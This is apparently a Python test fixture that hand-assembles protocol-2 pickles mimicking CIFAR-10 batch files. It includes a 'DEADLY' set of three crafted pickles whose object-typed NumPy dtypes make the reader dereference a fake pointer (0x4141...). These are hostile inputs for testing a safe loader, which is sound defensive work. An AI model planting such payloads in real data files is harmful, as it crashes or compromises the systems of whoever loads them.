"""Pickles of the second protocol put together by hand, as Python 2 wrote CIFAR-10 and as an attacker would write it."""

from __future__ import annotations

import struct

POINTER = b"\x41" * 8  # 0x4141414141414141: where a reader crashes that takes it for an object


def text(value: str | bytes) -> bytes:
    data = value if isinstance(value, bytes) else value.encode("latin-1")
    return b"U" + bytes([len(data)]) + data if len(data) < 256 else b"T" + struct.pack("<i", len(data)) + data


def number(value: int) -> bytes:
    return b"K" + bytes([value]) if 0 <= value < 256 else b"J" + struct.pack("<i", value)


def name(module: str, attribute: str) -> bytes:
    return f"c{module}\n{attribute}\n".encode()


EMPTY_ARRAY = (
    *(name("numpy.core.multiarray", "_reconstruct"), name("numpy", "ndarray")),
    *(number(0), b"\x85", text("b"), b"\x87R"),
)
RECONSTRUCT = b"".join(EMPTY_ARRAY)


def dtype(code: str, rest: bytes = b"NNN", elsize: int = -1, alignment: int = -1, flags: int = 0) -> bytes:
    state = (number(3), text("|"), rest, number(elsize), number(alignment), number(flags))
    return name("numpy", "dtype") + text(code) + b"K\x00K\x01\x87R(" + b"".join(state) + b"tb"


BYTES = dtype("u1")
OBJECTS = dtype("O8", flags=0x3F)
LABELS = b"](" + number(3) + number(7) + b"e"


def array(
    shape: tuple[int, ...] = (2, 3072),
    kind: bytes = BYTES,
    content: bytes = bytes(2 * 3072),
    *,
    version: int = 1,
    fortran: bytes = b"\x89",
) -> bytes:
    axes = b"(" + b"".join(number(n) for n in shape) + b"t"
    return RECONSTRUCT + b"(" + number(version) + axes + kind + fortran + text(content) + b"tb"


def batch(data: bytes = b"", labels: bytes = LABELS, first: bytes = b"\x80\x02") -> bytes:
    """A dictionary as the published ones: batch_label, labels, data, filenames."""
    names = b"](" + text("leptodactylus_pentadactylus_s_000004.png") + b"q\x07" + text("camion_s_000148.png") + b"e"
    pairs = (
        *(text("batch_label") + b"q\x02", text("training batch 1 of 5")),
        *(text("labels"), labels, text("data"), data or array(), text("filenames"), names),
    )
    return first + b"}q\x01(" + b"".join(pairs) + b"u."


# Each of these made NumPy read memory at POINTER when arrays and dtypes of the file were built by pickle.
_FIELD = b"N" + text("f") + b"\x85}(" + text("f") + OBJECTS + number(0) + b"\x86u"
_PART = OBJECTS + number(1) + b"\x85\x86NN"
DEADLY = {
    "a field of objects in bytes": array(kind=dtype("V8", _FIELD, 8, 1), content=POINTER * 2 * 3072),
    "parts that are objects in bytes": array(kind=dtype("V8", _PART, 8, 1), content=POINTER * 2 * 3072),
    "objects that deny being objects": array(kind=dtype("O8"), content=POINTER * 2 * 3072),
}
